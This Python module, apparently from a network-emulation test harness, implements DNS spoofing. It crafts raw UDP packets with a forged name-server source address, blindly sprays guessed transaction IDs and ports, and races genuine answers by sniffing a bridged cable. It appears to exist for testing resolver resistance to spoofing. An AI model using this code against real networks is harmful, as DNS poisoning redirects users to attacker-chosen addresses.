"""Forged DNS answers that come before the true one: by somebody who sees the questions, and by somebody who
guesses."""

import random
import socket
import struct
import threading

import dns.message
import dns.rdatatype

_ETH_P_ALL, _ETH_P_IP = 0x0003, 0x0800


def _checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def datagram(source, target, payload):
    """An IPv4 packet with an UDP datagram; `source`, `target`: (address, port). Without the checksum of UDP,
    which need not be there (RFC 768)."""
    length = 8 + len(payload)
    udp = struct.pack("!HHHH", source[1], target[1], length, 0)
    addresses = socket.inet_aton(source[0]) + socket.inet_aton(target[0])
    head = struct.pack("!BBHHHBB", 0x45, 0, 20 + length, 0, 0, 64, socket.IPPROTO_UDP)
    return head + struct.pack("!H", _checksum(head + b"\0\0" + addresses)) + addresses + udp + payload


class Spoofer:
    """Sends from the network `host` as if it were `name_server`; `forger`, a harness.parties.Forger, says
    what."""

    def __init__(self, host, name_server, forger):
        self.name_server = name_server
        self.forger = forger
        with host.inside():
            self._out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def stop(self):
        self._out.close()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.stop()

    def send(self, target, message):
        self._out.sendto(datagram((self.name_server, 53), target, message.to_wire()),
                         (target[0], 0))

    def spray(self, victim, name, kind, count):
        """Answers to a question of `victim` that nobody saw: its port and its number are guessed."""
        for _ in range(count):
            question = dns.message.make_query(name, kind)
            question.id = random.getrandbits(16)
            self.send((victim, random.randrange(1024, 65536)), self.forger.forge(question))


class Racer(Spoofer):
    """Hears what goes to the name server over one cable of the exchange, and answers first.
    `guesses`: it sees all but the number of the question, and sends so many wrong ones."""

    def __init__(self, internet, cable, name_server, forger, host, guesses=None):
        super().__init__(host, name_server, forger)
        self.guesses = guesses
        self.answered = []  # (name, kind)
        with internet.first.inside():
            # A bridge takes what is for one protocol away from whoever listens for that alone.
            self._in = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_ETH_P_ALL))
            self._in.bind((cable, _ETH_P_ALL))
        self._in.settimeout(0.2)
        self._ended = threading.Event()
        self._thread = threading.Thread(target=self._race, daemon=True)
        self._thread.start()

    def stop(self):
        self._ended.set()
        self._thread.join(30)
        self._in.close()
        super().stop()

    def _race(self):
        server = socket.inet_aton(self.name_server)
        while not self._ended.is_set():
            try:
                packet, (_, protocol, *_) = self._in.recvfrom(65536)
            except TimeoutError:
                continue
            if protocol != _ETH_P_IP or packet[9] != socket.IPPROTO_UDP or packet[16:20] != server:
                continue
            start = (packet[0] & 15) * 4
            port, to = struct.unpack("!HH", packet[start:start + 4])
            if to == 53:
                question = dns.message.from_wire(packet[start + 8:])
                self._answer((socket.inet_ntoa(packet[12:16]), port), question)

    def _answer(self, target, question):
        asked = question.question[0]
        self.answered.append((asked.name.to_text(), dns.rdatatype.to_text(asked.rdtype)))
        forged = self.forger.forge(question)
        if self.guesses is None:
            self.send(target, forged)
            return
        for _ in range(self.guesses):
            forged.id = (question.id + random.randrange(1, 65536)) & 0xffff
            self.send(target, forged)
